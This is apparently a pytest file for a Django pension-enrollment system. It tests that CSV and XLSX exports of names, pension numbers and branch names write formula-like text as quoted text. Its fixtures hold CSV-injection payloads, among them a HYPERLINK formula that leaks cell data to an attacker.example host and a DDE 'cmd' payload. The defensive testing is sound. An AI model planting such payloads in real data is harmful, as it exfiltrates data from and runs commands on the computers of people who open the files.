"""No export carries a formula: text that a spreadsheet would run (= + - @, a leading tab or carriage return)
comes out of every CSV and XLSX as quoted text, while national codes stay their digits and amounts numbers.

Such text is saved through the models (a name is stored normalized, which drops a leading tab or carriage
return, so those ride in the pension number, stored as given) and taken out through the real paths: the admin's
export action at once and as a background job, and the monthly deduction list of a branch.
"""

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheet import safe_cell
from enrollment import workflow
from enrollment.models import Branch, Dependent, EnrollmentRequest, Pensioner
from enrollment.reports.models import ExportJob, ExportStatus
from tests.enrollment.conftest import file_request
from tests.enrollment.reports.export_helpers import CARTABLE, JOBS, REGISTRY, csv_rows, export
from tests.factories import PensionerFactory

NAME_FORMULAS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"جزئیات")',
    "+1",
    "@SUM(1)",
    "-2+3",
]
CODE_FORMULAS = ["\t7000001", "\r7000002", "-7000003", "+7000004", "=7000005", "@7000006"]
PENSION_NUMBER_A = "\t100000011"
BRANCH_FORMULA = "=cmd|' /C calc'!A0"
MONTHLY = reverse("reports_dashboard:monthly_deductions")
ACCEPTED_ON = dt.date(2026, 11, 25)  # 4 Azar 1405: deductions start in Dey 1405


def _quoted(text: str) -> str:
    return "'" + text


def _quoted_in_xlsx(text: str) -> str:
    """XML reads a carriage return back as a line feed; the quote in front is what matters."""
    return _quoted(text).replace("\r", "\n")


# -- reading the files back ----------------------------------------------------------------------------


def _xlsx_sheets(content: bytes) -> list[list[list]]:
    """Every sheet as rows of cells (value and data_type), after proving the file holds no formula at all."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert not re.search(r"<f[ >/]", xml), f"{name} holds a formula"
    book = load_workbook(io.BytesIO(content))
    sheets = [[list(row) for row in sheet.iter_rows()] for sheet in book.worksheets]
    for rows in sheets:
        for row in rows:
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
    return sheets


def _xlsx_values(content: bytes) -> list[list]:
    return [[cell.value for cell in row] for sheets in _xlsx_sheets(content) for row in sheets]


def _by_header(rows: list[list], key: str) -> dict[str, dict[str, object]]:
    """Rows as dicts under their headers, keyed by the column `key` (a national code)."""
    header, *body = rows
    return {row[header.index(key)]: dict(zip(header, row, strict=True)) for row in body}


def _job_file(job: ExportJob) -> bytes:
    assert job.status == ExportStatus.DONE, job.error
    with job.file.open("rb") as f:
        return f.read()


def _take(client, url: str, file_format: str, mode: str, capture) -> bytes:
    """The file of an export through the admin, written while the user waits or by its background job."""
    if mode == "inline":
        response = export(client, url, file_format=file_format)
        assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")
        return response.content
    with capture(execute=True):
        response = export(client, url, file_format=file_format)
    assert response.status_code == 302 and response.url == JOBS
    return _job_file(ExportJob.objects.get())


# -- the registry ----------------------------------------------------------------------------------------


@pytest.fixture
def hostile_registry(pensioner_a) -> dict[str, tuple[str, str]]:
    """Tehran pensioners with a formula in every name column and in the pension number;
    national code → (name, pension number)."""
    made = {}
    for index, number in enumerate(CODE_FORMULAS):
        name = NAME_FORMULAS[index % len(NAME_FORMULAS)]
        pensioner = PensionerFactory(
            county=pensioner_a.county,
            paying_branch=pensioner_a.paying_branch,
            pension_number=number,
            first_name=name,
            last_name=name,
            father_name=name,
        )
        pensioner.refresh_from_db()
        assert (pensioner.first_name, pensioner.pension_number) == (name, number)  # stored as written
        made[pensioner.national_code] = (name, number)
    return made


@pytest.fixture(params=["inline", "job"])
def mode(request, settings) -> str:
    """How the export is written: while the user waits, or (every row over the limit) by a background job."""
    settings.REPORTS_INLINE_EXPORT_MAX = 100_000 if request.param == "inline" else 0
    return request.param


def test_the_registry_csv_writes_formulas_as_text(
    client, kanoon_tehran, hostile_registry, django_capture_on_commit_callbacks, mode
):
    client.force_login(kanoon_tehran)
    rows = _by_header(csv_rows(_take(client, REGISTRY, "csv", mode, django_capture_on_commit_callbacks)), "کد ملی")
    for code, (name, number) in hostile_registry.items():
        row = rows[code]
        assert (row["نام"], row["نام خانوادگی"], row["نام پدر"]) == (_quoted(name),) * 3
        assert row["شماره مستمری"] == _quoted(number)
        assert row["کد ملی"] == code and code.isdigit()
    assert rows["0010000011"]["کد ملی"] == "0010000011"


def test_the_registry_xlsx_writes_formulas_as_text_cells(
    client, kanoon_tehran, hostile_registry, django_capture_on_commit_callbacks, mode
):
    client.force_login(kanoon_tehran)
    content = _take(client, REGISTRY, "xlsx", mode, django_capture_on_commit_callbacks)
    rows = _by_header(_xlsx_values(content), "کد ملی")
    for code, (name, number) in hostile_registry.items():
        row = rows[code]
        assert (row["نام"], row["نام خانوادگی"], row["نام پدر"]) == (_quoted(name),) * 3
        assert row["شماره مستمری"] == _quoted_in_xlsx(number)
        assert row["کد ملی"] == code
    assert rows["0010000011"]["کد ملی"] == "0010000011"


def test_xlsx_keeps_error_codes_as_text_and_drops_what_xml_cannot_carry(client, kanoon_tehran, pensioner_a):
    error_like = PensionerFactory(county=pensioner_a.county, paying_branch=pensioner_a.paying_branch, last_name="#N/A")
    # A vertical tab XML cannot carry, hiding a formula behind it: dropped, and the formula quoted.
    hidden = PensionerFactory(
        county=pensioner_a.county, paying_branch=pensioner_a.paying_branch, pension_number="\x0b=1+1"
    )
    client.force_login(kanoon_tehran)
    response = export(client, REGISTRY, file_format="xlsx")
    assert response.status_code == 200
    rows = _by_header(_xlsx_values(response.content), "کد ملی")
    assert rows[error_like.national_code]["نام خانوادگی"] == "#N/A"
    assert rows[hidden.national_code]["شماره مستمری"] == "'=1+1"


# -- the cartable's enrollment list ----------------------------------------------------------------------


def _rename_people(request: EnrollmentRequest) -> dict[str, str]:
    """Everyone of the request given a formula as first name (the pensioner a last name and a pension number
    too); person's national code → the person's full name, which now starts with a formula."""
    pensioner = request.pensioner
    Pensioner.objects.filter(pk=pensioner.pk).update(
        first_name=NAME_FORMULAS[0], last_name=NAME_FORMULAS[1], pension_number=PENSION_NUMBER_A
    )
    dependents = [item.dependent for item in request.items.select_related("dependent") if item.dependent]
    assert dependents, "pensioner A's request lists dependents"
    for dependent, text in zip(dependents, NAME_FORMULAS[2:], strict=False):
        Dependent.objects.filter(pk=dependent.pk).update(first_name=text)
    pensioner.refresh_from_db()
    names = {pensioner.national_code: pensioner.full_name}
    names.update({d.national_code: d.full_name for d in Dependent.objects.filter(pk__in=[d.pk for d in dependents])})
    assert all(name[:1] in "=+-@" for name in names.values())
    return names


@pytest.fixture
def hostile_request(submitted_a) -> tuple[EnrollmentRequest, dict[str, str]]:
    return submitted_a, _rename_people(submitted_a)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_enrollment_list_writes_names_that_start_formulas_as_text(
    client, kanoon_tehran, hostile_request, django_capture_on_commit_callbacks, mode, file_format
):
    request, names = hostile_request
    client.force_login(kanoon_tehran)
    url = CARTABLE + "?status__exact=kanoon_review"
    content = _take(client, url, file_format, mode, django_capture_on_commit_callbacks)
    quoted = _quoted if file_format == "csv" else _quoted_in_xlsx
    rows = _by_header(csv_rows(content) if file_format == "csv" else _xlsx_values(content), "کد ملی فرد")
    assert set(rows) == set(names) and len(rows) == request.items.count()
    for code, name in names.items():
        row = rows[code]
        assert row["نام و نام خانوادگی فرد"] == quoted(name)
        assert row["نام و نام خانوادگی مستمری‌بگیر"] == quoted(names["0010000011"])
        assert row["شماره مستمری"] == quoted(PENSION_NUMBER_A)
        assert row["کد ملی مستمری‌بگیر"] == "0010000011"
        assert row["کد رهگیری"] == request.tracking_code


# -- the monthly deduction list ----------------------------------------------------------------------------


@pytest.fixture
def hostile_deductions(pensioner_a, kanoon_tehran, branch_tehran) -> tuple[EnrollmentRequest, dict[str, str]]:
    """Pensioner A's family enrolled by a real acceptance, then renamed to formulas; the paying branch too."""
    request = file_request(pensioner_a)
    workflow.request_kanoon_approve(request_id=request.pk, by=kanoon_tehran)
    accepted = workflow.request_branch_accept(request_id=request.pk, by=branch_tehran, today=ACCEPTED_ON)
    Branch.objects.filter(pk=accepted.branch_id).update(name=BRANCH_FORMULA)
    return accepted, _rename_people(accepted)


def _monthly(client, request: EnrollmentRequest, file_format: str) -> bytes:
    response = client.get(MONTHLY, {"branch": request.branch_id, "month": "1405/10", "export": file_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_the_monthly_csv_writes_names_as_text_and_keeps_codes_and_amounts(client, branch_tehran, hostile_deductions):
    request, names = hostile_deductions
    client.force_login(branch_tehran)
    _, *rows = csv_rows(_monthly(client, request, "csv"))
    assert len(rows) == 5 and {row[5] for row in rows} == set(names)
    for row in rows:
        document, code, pension_number, pensioner_name, person_name, person_code, *_, amount, first, last = row
        assert document.isdigit() and amount.isdigit() and pension_number == _quoted(PENSION_NUMBER_A)
        assert code == "0010000011" and person_code in names
        assert pensioner_name == _quoted(names["0010000011"])
        assert person_name == _quoted(names[person_code])
        assert (first, last) == ("1405/10", "")
    assert sum(int(row[8]) for row in rows) == 24_000_000


def test_the_monthly_xlsx_writes_text_cells_and_keeps_amounts_numbers(client, branch_tehran, hostile_deductions):
    request, names = hostile_deductions
    client.force_login(branch_tehran)
    listing, summary = _xlsx_sheets(_monthly(client, request, "xlsx"))
    rows = [[cell.value for cell in row] for row in listing[1:]]
    assert len(rows) == 5 and {row[5] for row in rows} == set(names)
    for cells in listing[1:]:
        assert cells[0].data_type == cells[8].data_type == "n"  # the document number and the amount
    for row in rows:
        document, code, pension_number, pensioner_name, person_name, person_code, *_, amount, first, _ = row
        assert type(document) is int and type(amount) is int and amount > 0
        assert pension_number == _quoted_in_xlsx(PENSION_NUMBER_A)
        assert code == "0010000011"
        assert pensioner_name == _quoted_in_xlsx(names["0010000011"])
        assert person_name == _quoted_in_xlsx(names[person_code])
        assert first == "1405/10"
    assert sum(row[8] for row in rows) == 24_000_000
    totals = {row[0].value: [cell.value for cell in row[1:]] for row in summary if row and row[0].value}
    assert totals["شعبه"][0] == _quoted(BRANCH_FORMULA)
    assert totals["جمع کل"] == [5, 24_000_000]


# -- the one rule every writer shares ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("-2+3", "'-2+3"),
        ("-5", "'-5"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\0=1", "'\0=1"),
        ("0010000011", "0010000011"),
        ("علی = رضا", "علی = رضا"),
        ("", ""),
        (-5, -5),
        (Decimal("-1250000"), Decimal("-1250000")),
        (24_000_000, 24_000_000),
        (None, None),
        (True, True),
        (dt.date(2026, 12, 22), dt.date(2026, 12, 22)),
    ],
)
def test_only_text_that_starts_a_formula_is_quoted(value, written):
    result = safe_cell(value)
    assert result == written and type(result) is type(written)
